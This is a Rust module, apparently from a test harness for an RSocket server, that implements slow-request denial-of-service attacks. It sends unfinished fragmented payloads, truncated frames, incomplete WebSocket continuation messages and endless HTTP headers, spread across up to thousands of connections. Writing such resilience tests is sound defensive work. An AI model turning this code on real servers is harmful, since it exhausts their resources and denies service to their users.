//! Attacks that begin and do not end: payloads in fragments, frames, messages, HTTP.

use rsock_wire::{BINARY, CONTINUATION, F, Framing, N, p, part_of_message, route, rr};

use super::{Held, crowd};
use crate::{
    target::{MAX_FRAME, Target},
    wire::{Sent, Wire},
};

/// Begins a request of 63 MiB in fragments of 1 MiB, without the last.
async fn half_payload(wire: &mut Wire, stream: u32) -> Sent {
    let begin = rr(stream, vec![b'f'; 1 << 20]).metadata(route("echo")).flags(F);
    let next = wire.framing.wrap(&p(stream, N | F, vec![b'f'; 1 << 20]).encode());
    let mut sent = wire.send([begin]).await;
    for _ in 1..63 {
        if sent == Sent::All {
            sent = wire.push(&next).await;
        }
    }
    sent
}

/// Many on one connection.
pub(super) async fn half_payloads(target: &Target) -> Held {
    let Some(mut wire) = target.established(Framing::Tcp).await else { return Held::new() };
    for n in 0..target.many(8) as u32 {
        half_payload(&mut wire, 2 * n + 1).await;
    }
    vec![wire]
}

async fn half_payloads_of_many(target: &Target, framing: Framing) -> Held {
    let attacker = || async {
        let mut wire = target.established(framing).await?;
        half_payload(&mut wire, 1).await;
        Some(wire)
    };
    crowd(target.many(40), attacker).await
}

/// One on each of many connections.
pub(super) async fn many_half_payloads(target: &Target) -> Held {
    half_payloads_of_many(target, Framing::Tcp).await
}

/// The same over WebSocket.
pub(super) async fn websocket_half_payloads(target: &Target) -> Held {
    half_payloads_of_many(target, Framing::WebSocket).await
}

/// All of a frame but its end.
pub(super) async fn half_frames(target: &Target) -> Held {
    let frame = rr(1, vec![b'h'; MAX_FRAME - 64]).metadata(route("echo"));
    let mut wire = Framing::Tcp.wrap(&frame.encode());
    wire.truncate(wire.len() - 1);
    begun_on_many(target, Framing::Tcp, 100, &wire).await
}

/// All of a message in continuation frames but its end.
pub(super) async fn half_messages(target: &Target) -> Held {
    let frame = rr(1, vec![b'h'; MAX_FRAME - 64]).metadata(route("echo")).encode();
    let mut wire = Vec::new();
    for (n, part) in frame[..frame.len() - 1].chunks(16 << 10).enumerate() {
        wire.extend(part_of_message(if n == 0 { BINARY } else { CONTINUATION }, part));
    }
    begun_on_many(target, Framing::WebSocket, 100, &wire).await
}

async fn begun_on_many(target: &Target, framing: Framing, count: usize, wire: &[u8]) -> Held {
    let attacker = || async {
        let mut attacker = target.established(framing).await?;
        attacker.push(wire).await;
        Some(attacker)
    };
    crowd(target.many(count), attacker).await
}

/// Headers without end before a WebSocket.
pub(super) async fn half_heads(target: &Target) -> Held {
    let mut head = format!("GET /rsocket HTTP/1.1\r\nHost: {}\r\n", target.ws).into_bytes();
    for n in 0..14 {
        head.extend_from_slice(format!("X-{n}: {}\r\n", "v".repeat(1_000)).as_bytes());
    }
    let attacker = || async {
        let mut wire = Wire::silent(target.ws).await.ok()?;
        // A server may well say that this is too much, and close.
        wire.push(&head).await;
        Some(wire)
    };
    crowd(target.many(4_000), attacker).await
}
